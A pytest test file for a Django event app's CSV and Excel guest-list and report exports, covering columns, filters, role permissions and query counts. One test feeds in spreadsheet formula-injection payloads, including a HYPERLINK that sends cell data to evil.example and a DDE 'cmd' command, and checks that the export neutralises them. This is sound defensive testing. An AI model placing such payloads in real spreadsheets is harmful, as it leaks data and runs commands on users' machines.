"""The guest side's downloads: the guest list, the dietary report and the question report, in CSV and Excel.

Each file is opened as an organizer's spreadsheet program would (csv module, openpyxl) and read cell by cell.
"""

import datetime as dt
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from guests.models import Guest
from tenants.models import Role
from tests.factories import EventFactory, GuestFactory, TenantFactory
from tests.support.spreadsheets import csv_rows, rows_as_dicts, xlsx_rows, xlsx_sheet

MADRID = "Europe/Madrid"
# 16:30 UTC on 1 June 2026 is 18:30 in Madrid (summer time): the wall-clock time written in the cells.
LOGIN_UTC = dt.datetime(2026, 6, 1, 16, 30, tzinfo=dt.UTC)
LOGIN_IN_MADRID = dt.datetime(2026, 6, 1, 18, 30)  # noqa: DTZ001  (a spreadsheet cell has no zone)
QUESTIONS = [
    {"key": "meal", "label": "Main course?", "choices": ["Fish", "Meat"]},
    {"key": "song", "label": "A song for the band?", "choices": []},
]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)"]


def _url(name, event, file_format):
    return reverse(name, kwargs={"tenant_slug": event.tenant.slug, "event_id": event.pk, "file_format": file_format})


@pytest.fixture
def party(tenant):
    return EventFactory(tenant=tenant, slug="summer-party", timezone=MADRID, questions=QUESTIONS)


@pytest.fixture
def guests(party):
    """The Müllers (a household: Zoë is coming with a child and answers; Lisa declined) and Carl, pending."""
    household = uuid.uuid4()
    zoe = GuestFactory(
        event=party,
        first_name="Zoë",
        last_name="Müller-Ñúñez",
        email="zoe@example.com",
        external_id="crm-17",
        group_id=household,
        status=Guest.Status.COMING,
        expected_guests=2,
        num_guests=2,
        dietary="Vegan",
        answers={"meal": "Fish", "song": "Blue Monday"},
        answered_by_kind=Guest.AnsweredBy.SELF,
        rsvp_at=LOGIN_UTC,
        last_login_at=LOGIN_UTC,
        last_access_at=LOGIN_UTC + dt.timedelta(minutes=5),
    )
    lisa = GuestFactory(
        event=party,
        first_name="Lisa",
        last_name="Müller-Ñúñez",
        group_id=household,
        status=Guest.Status.DECLINED,
        answered_by_kind=Guest.AnsweredBy.HOUSEHOLD,
        dietary="No nuts",
    )
    carl = GuestFactory(event=party, first_name="Carl", last_name="Adams")
    return zoe, lisa, carl


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_guest_export_has_a_row_per_guest_with_their_own_answer(owner_client, party, guests, file_format):
    zoe, lisa, carl = guests

    response = owner_client.get(_url("guests:export", party, file_format))

    assert response.status_code == 200
    today = dt.datetime.now(tz=party.tzinfo).date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="summer-party-guests-{today}.{file_format}"'
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    assert rows[0] == [
        "Last name",
        "First name",
        "Email",
        "Phone",
        "External id",
        "Code",
        "Household",
        "Status",
        "Expected guests",
        "Head count",
        "Answered by",
        "Answered at (Europe/Madrid)",
        "Dietary needs",
        "Main course?",
        "A song for the band?",
        "Invited at (Europe/Madrid)",
        "Last login (Europe/Madrid)",
        "Last access (Europe/Madrid)",
    ]
    by_first_name = {row["First name"]: row for row in rows_as_dicts(rows)}
    # The page's order: last name, then first name.
    assert [row[1] for row in rows[1:]] == ["Carl", "Lisa", "Zoë"]
    zoe_row, lisa_row, carl_row = by_first_name["Zoë"], by_first_name["Lisa"], by_first_name["Carl"]
    assert zoe_row["Last name"] == "Müller-Ñúñez" and zoe_row["Code"] == zoe.code
    assert (zoe_row["External id"], carl_row["External id"]) == ("crm-17", "" if file_format == "csv" else None)
    assert zoe_row["Household"] == lisa_row["Household"] == "Lisa Müller-Ñúñez, Zoë Müller-Ñúñez"
    assert (zoe_row["Status"], lisa_row["Status"], carl_row["Status"]) == ("Coming", "Declined", "Pending")
    assert zoe_row["Answered by"] == "the guest" and lisa_row["Answered by"] == "another member of the household"
    assert (zoe_row["Dietary needs"], lisa_row["Dietary needs"]) == ("Vegan", "No nuts")
    assert (zoe_row["Main course?"], zoe_row["A song for the band?"]) == ("Fish", "Blue Monday")
    if file_format == "csv":
        assert (zoe_row["Expected guests"], zoe_row["Head count"], lisa_row["Head count"]) == ("2", "2", "0")
        assert zoe_row["Last login (Europe/Madrid)"] == "2026-06-01 18:30"
        assert zoe_row["Last access (Europe/Madrid)"] == "2026-06-01 18:35"
        assert carl_row["Last login (Europe/Madrid)"] == "" and carl_row["Household"] == ""
    else:
        assert (zoe_row["Expected guests"], zoe_row["Head count"], lisa_row["Head count"]) == (2, 2, 0)
        assert zoe_row["Last login (Europe/Madrid)"] == LOGIN_IN_MADRID
        assert zoe_row["Answered at (Europe/Madrid)"] == LOGIN_IN_MADRID
        assert carl_row["Last login (Europe/Madrid)"] is None


def test_guest_export_keeps_the_page_filters(owner_client, party, guests):
    zoe, lisa, carl = guests

    coming = csv_rows(owner_client.get(_url("guests:export", party, "csv"), {"status": "coming"}))
    searched = csv_rows(owner_client.get(_url("guests:export", party, "csv"), {"q": "muller"}))
    never = csv_rows(owner_client.get(_url("guests:export", party, "csv"), {"never_logged_in": "true"}))

    assert [row[1] for row in coming[1:]] == ["Zoë"]
    assert [row[1] for row in searched[1:]] == ["Lisa", "Zoë"]
    assert [row[1] for row in never[1:]] == ["Carl", "Lisa"]


def test_the_guest_list_links_its_exports_with_its_filters(owner_client, party, guests):
    page = owner_client.get(
        reverse("guests:list", kwargs={"tenant_slug": party.tenant.slug, "event_id": party.pk}),
        {"status": "coming", "q": "zo", "page": "1"},
    ).content.decode()

    assert f'href="{_url("guests:export", party, "csv")}?status=coming&amp;q=zo"' in page
    assert f'href="{_url("guests:export", party, "xlsx")}?status=coming&amp;q=zo"' in page


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DOOR])
def test_viewers_and_door_staff_export_guests_without_their_codes(member_client, party, guests, role):
    zoe, lisa, carl = guests

    response = member_client(role).get(_url("guests:export", party, "xlsx"))

    assert response.status_code == 200
    rows = xlsx_rows(response)
    assert "Code" not in rows[0] and "Household" in rows[0]
    assert not any(guest.code in str(cell) for guest in guests for row in rows for cell in row)
    assert len(rows) == 4


def test_admins_export_the_codes(member_client, party, guests):
    rows = csv_rows(member_client(Role.ADMIN).get(_url("guests:export", party, "csv")))

    assert sorted(row["Code"] for row in rows_as_dicts(rows)) == sorted(g.code for g in guests)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_cells_a_spreadsheet_would_run_are_neutralised(owner_client, party, file_format):
    party.questions = [{"key": "q", "label": "=cmd|' /C calc'!A0", "choices": []}]
    party.save(update_fields=["questions"])
    for n, text in enumerate(HOSTILE):
        GuestFactory(event=party, first_name=text, last_name=f"Evil{n}", dietary=text, email="", answers={"q": text})

    response = owner_client.get(_url("guests:export", party, file_format))

    if file_format == "csv":
        rows = csv_rows(response)
    else:
        sheet = xlsx_sheet(response)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        rows = xlsx_rows(response)
    assert "'=cmd|' /C calc'!A0" in rows[0]
    exported = rows_as_dicts(rows)
    assert sorted(row["First name"] for row in exported) == sorted("'" + text for text in HOSTILE)
    for row in exported:
        assert row["Dietary needs"] == row["First name"] == row["'=cmd|' /C calc'!A0"]


def test_guest_export_costs_the_same_queries_for_more_guests(owner_client, party, django_assert_num_queries):
    def export_queries(extra_guests: int) -> tuple[int, int]:
        for n in range(extra_guests):
            GuestFactory(event=party, group_id=uuid.uuid4() if n % 2 else None, last_login_at=LOGIN_UTC)
        with CaptureQueriesContext(connection) as queries:
            rows = csv_rows(owner_client.get(_url("guests:export", party, "csv")))
        return len(queries), len(rows)

    owner_client.get(_url("guests:export", party, "csv")).getvalue()  # the session's first request writes more
    few, few_rows = export_queries(3)
    many, many_rows = export_queries(60)

    assert (few_rows, many_rows) == (4, 64)
    assert few == many
    with django_assert_num_queries(few):
        owner_client.get(_url("guests:export", party, "xlsx")).getvalue()


def test_another_organizations_event_is_a_404(owner_client, guests):
    theirs = EventFactory(tenant=TenantFactory())
    GuestFactory(event=theirs)

    for name in ("guests:export", "guests:dietary_export", "guests:questions_export"):
        assert owner_client.get(_url(name, theirs, "csv")).status_code == 404


def test_an_unknown_format_is_a_404(owner_client, party):
    assert owner_client.get(_url("guests:export", party, "pdf")).status_code == 404


def test_anonymous_visitors_are_sent_to_the_login(client, party):
    response = client.get(_url("guests:export", party, "csv"))

    assert response.status_code == 302 and response.url.startswith("/login/")


# --- the reports ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_dietary_export_is_the_report_one_row_per_need(owner_client, party, file_format):
    GuestFactory(event=party, first_name="Ann", last_name="Lee", status="coming", expected_guests=3, dietary="Vegan")
    GuestFactory(event=party, first_name="Bo", last_name="Ñúñez", status="coming", dietary="Vegan ")
    GuestFactory(event=party, first_name="Cy", last_name="Kim", status="coming", dietary="=1+1")
    GuestFactory(event=party, first_name="Di", last_name="Ray", status="declined", dietary="Gluten-free")

    response = owner_client.get(_url("guests:dietary_export", party, file_format))

    assert response.status_code == 200
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    assert rows[0] == ["Dietary needs", "Persons", "Coming with them without a code", "Guests"]
    numbers = str if file_format == "csv" else int
    assert rows[1:] == [
        ["Vegan", numbers(2), numbers(2), "Ann Lee with 2 more; Bo Ñúñez"],
        ["'=1+1", numbers(1), numbers(0), "Cy Kim"],
    ]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_question_export_counts_persons_per_answer(owner_client, party, file_format):
    GuestFactory(event=party, status="coming", answers={"meal": "Fish", "song": "@Blue Monday"})
    GuestFactory(event=party, status="coming", answers={"meal": "fish"})
    GuestFactory(event=party, status="coming", answers={})
    GuestFactory(event=party, status="declined", answers={"meal": "Meat"})

    response = owner_client.get(_url("guests:questions_export", party, file_format))

    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    numbers = str if file_format == "csv" else int
    assert rows == [
        ["Question", "Answer", "Persons"],
        ["Main course?", "Fish", numbers(2)],
        ["Main course?", "Meat", numbers(0)],
        ["Main course?", "No answer", numbers(1)],
        ["A song for the band?", "'@Blue Monday", numbers(1)],
        ["A song for the band?", "No answer", numbers(2)],
    ]


def test_the_report_pages_link_their_exports(owner_client, party):
    kwargs = {"tenant_slug": party.tenant.slug, "event_id": party.pk}
    dietary = owner_client.get(reverse("guests:dietary", kwargs=kwargs)).content.decode()
    questions = owner_client.get(reverse("guests:questions", kwargs=kwargs)).content.decode()

    assert _url("guests:dietary_export", party, "csv") in dietary
    assert _url("guests:dietary_export", party, "xlsx") in dietary
    assert _url("guests:questions_export", party, "csv") in questions
    assert _url("guests:questions_export", party, "xlsx") in questions


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DOOR, Role.ADMIN])
def test_every_member_downloads_the_reports(member_client, party, role):
    client = member_client(role)

    for name in ("guests:dietary_export", "guests:questions_export"):
        assert client.get(_url(name, party, "xlsx")).status_code == 200


def test_a_post_is_not_an_export(owner_client, party):
    assert owner_client.post(_url("guests:export", party, "csv")).status_code == 405
